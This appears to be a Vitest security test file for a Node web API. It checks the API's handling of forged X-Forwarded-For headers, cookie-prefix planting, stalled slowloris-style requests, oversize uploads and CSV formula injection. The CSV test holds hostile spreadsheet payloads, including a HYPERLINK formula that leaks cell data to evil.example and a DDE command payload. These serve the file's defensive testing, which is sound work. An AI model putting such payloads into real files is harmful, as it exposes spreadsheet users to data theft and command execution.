import { connect, type Socket } from 'node:net';
import { afterEach, describe, expect, it } from 'vitest';
import { LIMITS } from '../../src/domain/constants';
import { GOOD_PASSWORD } from '../support/auth';
import { signUpVerified } from '../support/accounts';
import { TINY_PNG } from '../support/multipart';
import { createTestApp, tableCounts, type TestApp } from '../support/testApp';

/** Infrastructure attacks: proxy trust, cookie prefix, timeouts, uploads, CSV. */

let t: TestApp | undefined;
const sockets: Socket[] = [];
afterEach(async () => {
  // A test that failed may leave a request in flight, which would hold the app's close.
  for (const socket of sockets.splice(0)) socket.destroy();
  await t?.close();
  t = undefined;
});
const start = async (env: Record<string, string>) => {
  t = await createTestApp({ AUTH_ACCOUNT_LIMIT_PER_15_MINUTES: '10000', ...env });
  return t;
};

/** Listens on loopback and answers the port, for tests that need a real socket. */
async function listen(app: TestApp['app']): Promise<number> {
  await app.listen({ host: '127.0.0.1', port: 0 });
  const address = app.server.address();
  if (!address || typeof address !== 'object') throw new Error('no address');
  return address.port;
}

interface RawExchange {
  socket: Socket;
  /** Everything the server sent so far. */
  received(): string;
  /** Settles when the server closes the connection (or it breaks), with what it sent. */
  closed: Promise<string>;
}

function openRaw(port: number): Promise<RawExchange> {
  return new Promise((resolve, reject) => {
    const socket = connect(port, '127.0.0.1');
    sockets.push(socket);
    let data = '';
    socket.on('data', (chunk) => (data += chunk.toString('latin1')));
    const closed = new Promise<string>((done) => {
      socket.on('close', () => done(data));
      socket.on('error', () => undefined);
    });
    socket.once('connect', () => resolve({ socket, received: () => data, closed }));
    socket.once('error', reject);
  });
}

/** Fails the test if `promise` has not settled after `ms` (a generous bound, not a timing check). */
const within = <T>(promise: Promise<T>, ms: number, what: string) =>
  Promise.race([promise, new Promise<never>((_, reject) => setTimeout(() => reject(new Error(`${what}: still open after ${ms} ms`)), ms))]);

describe('TRUST_PROXY with a hop count', () => {
  it('limits by the address the trusted proxy saw, whatever X-Forwarded-For chain the client forges', async () => {
    const { app } = await start({ TRUST_PROXY: '1', AUTH_RATE_LIMIT_PER_MINUTE: '3' });
    const ask = (xff: string, i: number) =>
      app.inject({ method: 'POST', url: '/api/v1/auth/forgot-password', payload: { email: `nobody${i}@example.com` }, headers: { 'x-forwarded-for': xff } });
    const counts = await tableCounts(app);
    // The proxy appends the client's real address (203.0.113.7); everything left of it is forged.
    const statuses: number[] = [];
    for (let i = 0; i < 8; i += 1) statuses.push((await ask(`198.18.${i}.1, 10.0.0.${i}, 203.0.113.7`, i)).statusCode);
    expect(statuses).toEqual([200, 200, 200, 429, 429, 429, 429, 429]);
    // The proxy's header is honoured: another real client is counted on its own.
    expect((await ask('203.0.113.7, 198.51.100.9', 99)).statusCode).toBe(200);
    expect(await tableCounts(app)).toEqual(counts);
  });

  it('refuses TRUST_PROXY=true at start instead of trusting every hop', async () => {
    await expect(createTestApp({ TRUST_PROXY: 'true' })).rejects.toThrow(/TRUST_PROXY: .*number of proxies/);
  });
});

describe('session cookie prefix', () => {
  it('on https is __Host-beacon_session (Secure, Path=/, no Domain) and a planted unprefixed cookie counts for nothing', async () => {
    const { app } = await start({ PUBLIC_URL: 'https://portal.example.com', AUTH_RATE_LIMIT_PER_MINUTE: '10000' });
    const { res, cookie } = await signUpVerified(app, 'host@example.com');
    const set = res.cookies.find((c) => c.name === '__Host-beacon_session');
    expect(set).toMatchObject({ secure: true, path: '/', httpOnly: true });
    expect(set?.domain).toBeUndefined();
    expect(res.cookies.find((c) => c.name === 'beacon_session')).toBeUndefined();
    const me = (c: string) => app.inject({ method: 'GET', url: '/api/v1/auth/me', headers: { cookie: c } });
    expect((await me(cookie)).statusCode).toBe(200);
    // The same token under the name a sibling subdomain or an http page could set is not read.
    const token = cookie.slice(cookie.indexOf('=') + 1);
    expect((await me(`beacon_session=${token}`)).statusCode).toBe(401);
    const out = await app.inject({ method: 'POST', url: '/api/v1/auth/signout', headers: { cookie } });
    expect(String(out.headers['set-cookie'])).toMatch(/^__Host-beacon_session=;.*Secure/);
    expect((await me(cookie)).statusCode).toBe(401);
  });

  it('on plain http stays beacon_session without Secure (a __Host- cookie would be refused there)', async () => {
    const { app } = await start({ PUBLIC_URL: 'http://localhost:3000', AUTH_RATE_LIMIT_PER_MINUTE: '10000' });
    const { res, cookie } = await signUpVerified(app, 'plain@example.com');
    expect(res.cookies.find((c) => c.name === 'beacon_session')).toMatchObject({ path: '/', httpOnly: true });
    expect(res.cookies.find((c) => c.name === 'beacon_session')?.secure).toBeFalsy();
    expect(cookie.startsWith('beacon_session=')).toBe(true);
    const token = cookie.slice(cookie.indexOf('=') + 1);
    expect((await app.inject({ method: 'GET', url: '/api/v1/auth/me', headers: { cookie: `__Host-beacon_session=${token}` } })).statusCode).toBe(401);
  });
});

describe('request timeouts', () => {
  it('closes a connection whose body stalls, and one whose headers never finish, without touching anything', async () => {
    const { app } = await start({ REQUEST_TIMEOUT_MS: '600', HEADERS_TIMEOUT_MS: '300', AUTH_RATE_LIMIT_PER_MINUTE: '10000' });
    const port = await listen(app);
    const counts = await tableCounts(app);

    const body = await openRaw(port);
    const json = JSON.stringify({ firstName: 'Slow', lastName: 'Loris', email: 'slow@example.com', password: GOOD_PASSWORD });
    body.socket.write(`POST /api/v1/users HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: ${json.length}\r\n\r\n${json.slice(0, 20)}`);
    const answer = await within(body.closed, 15_000, 'stalled body');
    // Node answers 408 when it can; either way no request reached a handler.
    expect(answer === '' || answer.startsWith('HTTP/1.1 408')).toBe(true);

    const headers = await openRaw(port);
    headers.socket.write('GET /api/v1/health HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ');
    const headersAnswer = await within(headers.closed, 15_000, 'stalled headers');
    expect(headersAnswer === '' || headersAnswer.startsWith('HTTP/1.1 408')).toBe(true);

    expect(await tableCounts(app)).toEqual(counts);
  });
});

describe('oversize multipart uploads', () => {
  const BOUNDARY = '----beacon-test-boundary';
  const head = (port: number, path: string, cookie: string, extra: string) =>
    `PUT ${path} HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nCookie: ${cookie}\r\nContent-Type: multipart/form-data; boundary=${BOUNDARY}\r\n${extra}\r\n`;
  const filePartStart = Buffer.from(
    `--${BOUNDARY}\r\nContent-Disposition: form-data; name="firstName"\r\n\r\nMallory\r\n--${BOUNDARY}\r\nContent-Disposition: form-data; name="designation"\r\n\r\ndev\r\n` +
      `--${BOUNDARY}\r\nContent-Disposition: form-data; name="uploadPicture"; filename="big.png"\r\nContent-Type: image/png\r\n\r\n`,
  );
  const TOTAL = 30 * 1024 * 1024;

  async function setUp() {
    const { app } = await start({ AUTH_RATE_LIMIT_PER_MINUTE: '10000' });
    const { res, cookie } = await signUpVerified(app, 'upload@example.com');
    const path = `/api/v1/users/${res.json().payload._id as string}`;
    const port = await listen(app);
    const me = async () => (await app.inject({ method: 'GET', url: '/api/v1/auth/me', headers: { cookie } })).json().payload;
    return { app, cookie, path, port, me, before: await me(), counts: await tableCounts(app) };
  }

  it('refuses a declared Content-Length over the limit before reading any of the body', async () => {
    const { app, cookie, path, port, me, before, counts } = await setUp();
    const raw = await openRaw(port);
    raw.socket.write(head(port, path, cookie, `Content-Length: ${TOTAL}\r\n`));
    const answer = await within(raw.closed, 15_000, 'oversize Content-Length');
    expect(answer).toMatch(/^HTTP\/1\.1 413 /);
    expect(answer).toContain('"code":"FILE_TOO_BIG"');
    expect(await me()).toEqual(before);
    expect(await tableCounts(app)).toEqual(counts);
  });

  it('stops a chunked upload at the file limit: answered FILE_TOO_BIG long before 30 MiB were sent', async () => {
    const { app, cookie, path, port, me, before, counts } = await setUp();
    const raw = await openRaw(port);
    raw.socket.write(head(port, path, cookie, 'Transfer-Encoding: chunked\r\n'));
    const chunk = (data: Buffer) => Buffer.concat([Buffer.from(`${data.length.toString(16)}\r\n`), data, Buffer.from('\r\n')]);
    raw.socket.write(chunk(Buffer.concat([filePartStart, TINY_PNG])));
    const piece = Buffer.alloc(64 * 1024, 0x41);
    let sent = 0;
    let broken = false;
    raw.socket.on('error', () => (broken = true));
    raw.socket.on('close', () => (broken = true));
    // Sends like a client that keeps going until the server answers or hangs up.
    while (sent < TOTAL && !broken && !raw.received()) {
      const flushed = raw.socket.write(chunk(piece));
      sent += piece.length;
      if (!flushed) await new Promise<void>((resolve) => {
        raw.socket.once('drain', resolve);
        raw.socket.once('close', resolve);
      });
    }
    const answer = await within(raw.closed, 15_000, 'oversize upload');
    expect(answer).toMatch(/^HTTP\/1\.1 413 /);
    expect(answer).toContain('"code":"FILE_TOO_BIG"');
    expect(answer.toLowerCase()).toContain('connection: close');
    // Far less than the whole body went out: the server stopped reading at about the limit.
    expect(sent).toBeGreaterThan(LIMITS.uploadMaxBytes / 2);
    expect(sent).toBeLessThan(TOTAL / 2);
    expect(await me()).toEqual(before);
    expect(await tableCounts(app)).toEqual(counts);
  });
});

/** RFC 4180 rows, enough for the export: quoted cells may hold commas, quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\n') {
      rows.push([...row, cell]);
      row = [];
      cell = '';
    } else cell += c;
  }
  if (cell || row.length) rows.push([...row, cell]);
  return rows;
}

describe('CSV export', () => {
  it('defuses every cell a spreadsheet would run as a formula (=, +, -, @, tab, carriage return)', async () => {
    const { app } = await start({ AUTH_RATE_LIMIT_PER_MINUTE: '10000' });
    const admin = await signUpVerified(app, 'root@example.com');
    await app.database.rows(`update users set is_admin = true where email = 'root@example.com'`);
    // A formula typed into the sign-up form, and the rest as they could arrive from any source.
    const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
    expect((await app.inject({ method: 'POST', url: '/api/v1/users', payload: { firstName: hyperlink, lastName: '+1 555 0100', email: 'formula@example.com', password: GOOD_PASSWORD } })).statusCode).toBe(201);
    const hostile = ['+1', '-2+3', '@SUM(A1:A9)', '\tx', '\rx', "=cmd|' /C calc'!A0"];
    for (const [i, name] of hostile.entries()) {
      await app.database.rows(`insert into users (email, first_name, last_name) values ('hostile${i}@example.com', '${name.replace(/'/g, "''")}', '-${i}')`);
    }
    const counts = await tableCounts(app);
    const res = await app.inject({ method: 'GET', url: '/api/v1/admin/users/export?format=csv', headers: { cookie: admin.cookie } });
    expect(res.statusCode).toBe(200);
    const rows = parseCsv(res.body);
    const byEmail = new Map(rows.map((r) => [r[1], r]));
    expect(byEmail.get('formula@example.com')?.slice(2, 4)).toEqual([`'${hyperlink}`, "'+1 555 0100"]);
    for (const [i, name] of hostile.entries()) expect(byEmail.get(`hostile${i}@example.com`)?.slice(2, 4)).toEqual([`'${name}`, `'-${i}`]);
    for (const row of rows) for (const cell of row) expect(cell, JSON.stringify(row)).not.toMatch(/^[=+\-@\t\r]/);
    // Header, admin, the sign-up and the hostile rows.
    expect(rows).toHaveLength(3 + hostile.length);
    // Reading changes nothing but the export's own audit row.
    expect(await tableCounts(app)).toEqual({ ...counts, audit_logs: (counts.audit_logs ?? 0) + 1 });
  });
});
